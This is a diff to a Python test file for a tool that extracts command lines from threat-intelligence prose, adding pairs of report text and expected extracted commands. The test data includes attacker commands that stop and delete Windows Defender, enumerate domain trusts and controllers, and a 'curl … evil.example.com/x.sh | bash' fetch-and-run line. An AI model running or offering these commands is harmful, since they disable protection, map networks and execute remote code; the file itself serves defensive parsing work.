@@ -327,6 +327,19 @@ def test_a_mutex_is_not_the_next_word() -> None:
         ),
         ("Then `rundll32 c:\\x\\y.dll,init` was used", "rundll32 c:\\x\\y.dll,init"),
         ("sc stop WinDefend sc delete WinDefend", "sc stop WinDefend"),
+        ("nltest /domain_trusts net group x /dom", "nltest /domain_trusts"),
+        ("reg delete HKLM\\X /f reg add HKLM\\Y /f", "reg delete HKLM\\X /f"),
+        ("cmd.exe /c whoami /all", "cmd.exe /c whoami /all"),
+        ("conhost.exe --headless cmd /c dir x", "conhost.exe --headless cmd /c dir x"),
+        ('adfind.exe -f "(objectcategory=group)".', 'adfind.exe -f "(objectcategory=group)"'),
+        ("nltest /dclist: was used", "nltest /dclist:"),
+        ("nltest /dclist:, whoami /groups", "nltest /dclist:"),
+        ("sc delete WinDefend Disables the main service", "sc delete WinDefend"),
+        ("net user DC-01$ P@ss Figure 5: An example", "net user DC-01$ P@ss"),
+        (
+            'psql.exe -c "select a from b where the c" and then it',
+            'psql.exe -c "select a from b where the c"',
+        ),
         (
             "curl -fsSL http://evil.example.com/x.sh | bash",
             "curl -fsSL http://evil.example.com/x.sh | bash",
@@ -344,6 +357,13 @@ def test_command_lines(text: str, command: str) -> None:
         "They reached the route for the first time and set up a node.",
         "explorer.exe process was running",
         "Start with the type of the file, then copy it.",
+        "They used net user and net group to enumerate accounts.",
+        "msbuild.exe communicated with 45.141.87.55 on port 9000",
+        "quser.exe or wmic.exe are run, and systeminfo commands as well",
+        "The page at https://a.example.com/x and at C:\\Temp\\x.exe is gone.",
+        "It waits for flashutil_activex.exe and looks where schtasks.exe is.",
+        "Run sharphound (disguised as sh.exe) there. cmd.exe (a shell) -x",
+        "New-Object System.Data.DataSet $x",
     ],
 )
 def test_sentences_are_no_commands(text: str) -> None:
